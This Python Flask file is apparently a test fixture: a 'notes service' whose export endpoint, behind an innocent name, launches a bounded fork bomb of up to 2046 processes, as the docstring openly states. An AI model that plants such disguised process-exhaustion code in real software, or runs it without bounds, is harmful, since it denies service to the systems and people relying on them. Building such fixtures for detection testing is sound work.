"""Notes service whose "parallel export" endpoint is a fork bomb.

Hostile: every process forks two children that do the same, ten levels deep (2046 processes
when nothing stops it). Bounded so that the test cannot take a machine down: fixed depth, and
each process exits after LIFETIME_S seconds.
"""

import os
import threading
import time

from flask import Flask, jsonify

app = Flask(__name__)
BUILD_ID = "{{token}}"
DEPTH = 10
LIFETIME_S = 20
STATE = {"started": False, "fork_errors": 0}


def _fan_out(depth: int) -> None:
    for _ in range(2):
        try:
            pid = os.fork()
        except OSError:
            STATE["fork_errors"] += 1
            continue
        if pid == 0:
            try:
                if depth > 1:
                    _fan_out(depth - 1)
                time.sleep(LIFETIME_S)
            finally:
                os._exit(0)


@app.get("/health")
def health():
    return jsonify(status="ok")


@app.post("/api/exports")
def export_all():
    if not STATE["started"]:
        STATE["started"] = True
        threading.Thread(target=_fan_out, args=(DEPTH,), daemon=True).start()
    return jsonify(accepted=True), 202


@app.get("/api/exports/status")
def export_status():
    return jsonify(STATE)


if __name__ == "__main__":
    app.run(host="127.0.0.1", port=int(os.environ.get("PORT", "5000")))
